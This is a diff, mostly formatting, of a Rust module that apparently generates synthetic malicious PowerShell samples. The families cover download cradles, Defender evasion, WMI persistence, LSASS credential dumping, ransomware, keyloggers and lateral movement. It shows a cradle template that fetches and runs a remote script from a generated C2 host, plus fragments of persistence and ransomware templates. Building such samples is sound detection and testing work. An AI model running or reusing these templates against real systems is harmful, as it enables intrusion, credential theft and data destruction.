@@ -6,18 +6,52 @@ use super::names::{self, fill, pick, R};
 use super::{Draft, Family};
 
 pub(crate) const FAMILIES: &[Family] = &[
-    Family { name: "download-cradle", description: "A PowerShell download cradle that loads and runs a remote script in memory", gen: cradle },
-    Family { name: "defender-exclusion", description: "A defence evasion script that adds Defender exclusions and switches off protections", gen: defender },
-    Family { name: "wmi-event-persistence", description: "A persistence script that installs a WMI event subscription", gen: wmi_persist },
-    Family { name: "lsass-dump", description: "A credential dumper that copies LSASS memory and registry hives", gen: lsass },
-    Family { name: "ransomware", description: "Ransomware that destroys backups, encrypts files and leaves a ransom note", gen: ransomware },
-    Family { name: "keylogger", description: "A keylogger that records keystrokes and ships them to an operator", gen: keylogger },
-    Family { name: "wmi-lateral-movement", description: "A lateral movement script that runs payloads on remote hosts over WMI and WinRM", gen: lateral },
+    Family {
+        name: "download-cradle",
+        description: "A PowerShell download cradle that loads and runs a remote script in memory",
+        gen: cradle,
+    },
+    Family {
+        name: "defender-exclusion",
+        description:
+            "A defence evasion script that adds Defender exclusions and switches off protections",
+        gen: defender,
+    },
+    Family {
+        name: "wmi-event-persistence",
+        description: "A persistence script that installs a WMI event subscription",
+        gen: wmi_persist,
+    },
+    Family {
+        name: "lsass-dump",
+        description: "A credential dumper that copies LSASS memory and registry hives",
+        gen: lsass,
+    },
+    Family {
+        name: "ransomware",
+        description: "Ransomware that destroys backups, encrypts files and leaves a ransom note",
+        gen: ransomware,
+    },
+    Family {
+        name: "keylogger",
+        description: "A keylogger that records keystrokes and ships them to an operator",
+        gen: keylogger,
+    },
+    Family {
+        name: "wmi-lateral-movement",
+        description:
+            "A lateral movement script that runs payloads on remote hosts over WMI and WinRM",
+        gen: lateral,
+    },
 ];
 
 fn cradle(r: &mut R) -> Draft {
     let host = names::c2_host(r);
-    let url = format!("{}://{host}{}.ps1", pick(r, &["http", "https"]), names::url_path(r));
+    let url = format!(
+        "{}://{host}{}.ps1",
+        pick(r, &["http", "https"]),
+        names::url_path(r)
+    );
     let v = r.random_range(0..3);
     let line = match v {
         0 => format!("IEX (New-Object Net.WebClient).DownloadString('{url}')"),
@@ -128,7 +162,10 @@ Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -A
 }
 
 fn lsass(r: &mut R) -> Draft {
-    let dir = pick(r, &["C:\\Windows\\Temp", "C:\\ProgramData", "C:\\Users\\Public"]);
+    let dir = pick(
+        r,
+        &["C:\\Windows\\Temp", "C:\\ProgramData", "C:\\Users\\Public"],
+    );
     let f = names::token(r, 6);
     let host = names::c2_host(r);
     let c = fill(
@@ -207,7 +244,12 @@ foreach ($root in $targets) {
 }
 $aes.Dispose()
 "#,
-        &[("EXT", &ext), ("ID", &id), ("ONION", &onion), ("HOST", &host)],
+        &[
+            ("EXT", &ext),
+            ("ID", &id),
+            ("ONION", &onion),
+            ("HOST", &host),
+        ],
     );
     Draft {
         content: c,
@@ -302,7 +344,14 @@ foreach ($c in $computers) {
         &[
             ("DOM", &names::company(r).to_uppercase()),
             ("USER", names::user(r)),
-            ("PASS", &format!("{}{}!", names::pascal(names::word(r)), r.random_range(1990..2030))),
+            (
+                "PASS",
+                &format!(
+                    "{}{}!",
+                    names::pascal(names::word(r)),
+                    r.random_range(1990..2030)
+                ),
+            ),
             ("URL", &url),
         ],
     );
